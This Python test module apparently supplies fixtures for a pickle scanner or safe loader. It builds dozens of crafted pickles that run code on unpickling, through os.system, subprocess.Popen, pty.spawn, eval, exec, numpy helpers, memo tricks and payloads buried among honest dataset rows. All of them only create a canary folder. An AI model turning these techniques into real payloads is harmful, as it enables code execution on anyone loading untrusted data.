"""Pickles that run a command when they are unpickled."""

import copyreg
import os
import pickle
import struct
from pathlib import Path

from tests.datasets.making import as_dicts, identities, numpy_rows, vectors

P2, P3, P4, P5 = (b"\x80" + bytes([protocol]) for protocol in (2, 3, 4, 5))
EXTENSIONS = {"ext1": (0x41, "os", "mkdir"), "ext2": (0x141, "os", "makedirs"), "ext4": (0x10041, "posix", "mkdir")}
NUMPY_RECONSTRUCT = ("numpy._core.multiarray", "_reconstruct")


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


def warm_up() -> None:
    """What an application may have done in whose process EXT runs code: extensions registered, and each resolved once."""
    for code, module, attribute in EXTENSIONS.values():
        copyreg.add_extension(module, attribute, code)
        pickle.loads(P2 + b"\x84" + struct.pack("<i", code) + b".")


def running_code(canary: Path) -> dict[str, bytes]:
    """Payloads by name. Each makes the folder or file `canary` when it is unpickled, in an application as in `warm_up`."""
    path = text(str(canary))
    body = call(name("os", "mkdir"), path)
    return {
        **_by_protocol(str(canary), body),
        **_by_instruction(str(canary)),
        **_by_name(str(canary)),
        **_by_place(body),
        **_by_memo(path),
        **_by_numpy(body, path),
        **_by_pickler(str(canary)),
    }


def _by_protocol(canary: str, body: bytes) -> dict[str, bytes]:
    plain = {f"global in protocol {head[1]}": head + body + b"." for head in (P2, P3, P4, P5)}
    stacked = call(stack_name("os", "mkdir"), text(canary)) + b"."
    on_stack = {f"stack global in protocol {head[1]}": head + stacked for head in (P4, P5)}
    return {
        **plain,
        **on_stack,
        "global in protocol 0": f"cos\nmkdir\n(S'{canary}'\ntR.".encode(),
        "global in protocol 1": b"cos\nmkdir\n(U" + bytes([len(canary)]) + canary.encode() + b"tR.",
        "no protocol": body + b".",
        "protocol said twice": P2 + P2 + body + b".",
        "in a frame": P4 + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b".",
        "under posix": P2 + call(name("posix", "mkdir"), text(canary)) + b".",
    }


def _by_instruction(canary: str) -> dict[str, bytes]:
    path, mkdir = text(canary), name("os", "mkdir")
    # map runs nothing until somebody asks for its items: a tuple does, made by __new__ as well.
    items = name("builtins", "map") + b"(" + mkdir + b"](" + path + b"et\x81"
    bare = name("argparse", "Namespace") + b")\x81"
    planted = b"}" + text("__setstate__") + mkdir + b"s"
    extensions = {
        "ext1": b"\x82" + bytes([EXTENSIONS["ext1"][0]]),
        "ext2": b"\x83" + struct.pack("<H", EXTENSIONS["ext2"][0]),
        "ext4": b"\x84" + struct.pack("<i", EXTENSIONS["ext4"][0]),
    }
    return {
        "inst": f"(S'{canary}'\nios\nmkdir\n.".encode(),
        "obj": P2 + b"(" + name("subprocess", "Popen") + b"(" + text("mkdir") + path + b"lo.",
        "newobj": P2 + name("builtins", "tuple") + items + b"\x85\x81.",
        "newobj_ex": P4 + name("builtins", "tuple") + items.replace(b"t\x81", b"t}\x92") + b"\x85}\x92.",
        "build with a planted setstate": P2 + bare + planted + b"b" + path + b"b.",
        "build with slots": P2 + bare + b"N" + planted + b"\x86b" + path + b"b.",
        **{kind: P2 + call(function, path) + b"." for kind, function in extensions.items()},
    }


def _by_name(canary: str) -> dict[str, bytes]:
    path, python = text(canary), f"__import__('os').mkdir({canary!r})"
    getattr_, import_ = name("builtins", "getattr"), name("builtins", "__import__")
    argv = b"](" + text("mkdir") + path + b"e"
    calls = {
        "os.system": call(name("os", "system"), text(f"mkdir {canary}")),
        "os.popen": call(name("os", "popen"), text(f"mkdir {canary}")),
        "subprocess.check_output": call(name("subprocess", "check_output"), argv),
        "subprocess.Popen": call(name("subprocess", "Popen"), argv),
        "pty.spawn": call(name("pty", "spawn"), argv),
        "eval": call(name("builtins", "eval"), text(python)),
        "exec": call(name("builtins", "exec"), text(python)),
        "open": call(name("io", "open"), path, text("w")),
        "getattr": call(call(getattr_, call(import_, text("os")), text("mkdir")), path),
        "import_module": call(
            call(getattr_, call(name("importlib", "import_module"), text("os")), text("mkdir")), path
        ),
        "methodcaller": call(call(name("operator", "methodcaller"), text("mkdir"), path), call(import_, text("os"))),
        "partial": call(call(name("functools", "partial"), name("os", "mkdir"), path)),
        "timeit": call(name("timeit", "timeit"), text("pass"), text(python), name("time", "perf_counter"), b"K\x01"),
        "pickle in a pickle": call(
            name("pickle", "loads"), b"B" + _counted(P2 + call(name("os", "mkdir"), path) + b".")
        ),
        "os.makedirs": call(name("os", "makedirs"), path),
        "shutil.copytree": call(name("shutil", "copytree"), text("/proc/self/ns"), path),
    }
    return {kind: P4 + payload + b"." for kind, payload in calls.items()}


def _counted(data: bytes) -> bytes:
    return struct.pack("<I", len(data)) + data


def _by_place(body: bytes) -> dict[str, bytes]:
    rows = as_dicts(identities(2), vectors(2))
    honest, item = pickle.dumps(rows, 2)[2:-1], pickle.dumps(rows[0], 2)[2:-1]
    open_row = b"}(" + text("identity") + text("Ana/1.jpg") + text("embedding")
    number = b"G" + bytes(8)
    return {
        "before an honest dataset": P2 + body + b"0" + honest + b".",
        "after an honest row": P2 + b"](" + item + body + b"e.",
        "after a thousand honest rows": P2 + b"](" + item * 1000 + body + b"e.",
        "after an honest list": P2 + honest + body + b"0.",
        "as a vector": P2 + b"](" + open_row + body + b"ue.",
        "among a vector's numbers": P2 + b"](" + open_row + b"](" + number * 100 + body + number * 100 + b"eue.",
        "as a key's value": P2 + b"](}(" + text("identity") + body + b"ue.",
        "in a tuple": P2 + b"](" + item + b"(" + body + b"te.",
        "behind a mark that is dropped": P2 + b"](" + item + b"(" + body + b"1e.",
        "twice": P2 + b"](" + item + body + b"2e.",
    }


def _by_memo(path: bytes) -> dict[str, bytes]:
    swapped = (
        text("numpy") + b"q\x000" + text("ndarray") + b"q\x010" + text("os") + b"q\x000" + text("mkdir") + b"q\x010"
    )
    recalled = call(b"h\x00h\x01\x93", path) + b"."
    row = b"](" + text("os") + b"\x94" + text("mkdir") + b"\x94e0"
    function = name("os", "mkdir") + b"r\x10\x00\x00\x000"
    return {
        "a name that the memo swaps": P4 + swapped + recalled,
        "a name out of a row": P4 + row + recalled,
        "a function out of the memo": P2 + function + call(b"j\x10\x00\x00\x00", path) + b".",
        "a result out of the memo": P2 + b"](" + call(name("os", "mkdir"), path) + b"q\x05h\x05e.",
    }


def _by_numpy(body: bytes, path: bytes) -> dict[str, bytes]:
    array = pickle.dumps(numpy_rows(1)[0][1], 3)[2:-1]
    runstring = name("numpy.testing._private.utils", "runstring")
    source = b"X" + _counted(b"__import__('os').mkdir('" + path[5:] + b"')")
    reconstruct = name(*NUMPY_RECONSTRUCT)
    return {
        "numpy's runstring": P2 + call(runstring, source, b"}") + b".",
        "numpy's myeval": P2 + call(name("numpy.f2py.crackfortran", "myeval"), source, b"}", b"}") + b".",
        "os by way of numpy": P4 + call(stack_name("numpy.f2py.diagnose", "os.mkdir"), path) + b".",
        "a dotted name": P4 + call(stack_name("numpy.f2py", "diagnose.os.mkdir"), path) + b".",
        "beside an array": P3 + b"](" + array + body + b"e.",
        "as an array's length": P3
        + call(reconstruct, name("numpy", "ndarray"), b"K\x00" + body + b"0\x85", b"C\x01b")
        + b".",
        "an array's state": P3 + call(reconstruct, name("numpy", "ndarray"), b"K\x00\x85", b"C\x01b") + body + b"b.",
        "a type's argument": P3 + call(name("numpy", "dtype"), text("f4") + body + b"0", b"\x89", b"\x88") + b".",
    }


class _Makes:
    """Reduced to a call, as Python's own pickler writes it."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self):
        return os.mkdir, (self.canary,)


class _ListOf:
    """Reduced to a list that is filled from outside."""

    def __init__(self, item: object) -> None:
        self.item = item

    def __reduce__(self):
        return list, (), None, iter([self.item]), None


def _by_pickler(canary: str) -> dict[str, bytes]:
    rows = as_dicts(identities(2), vectors(2))
    return {
        **{f"reduced in protocol {n}": pickle.dumps([*rows, _Makes(canary)], n) for n in range(6)},
        "an embedding that is reduced": pickle.dumps([rows[0] | {"embedding": _Makes(canary)}], 4),
        "a list that is reduced": pickle.dumps(_ListOf(_Makes(canary)), 4),
    }
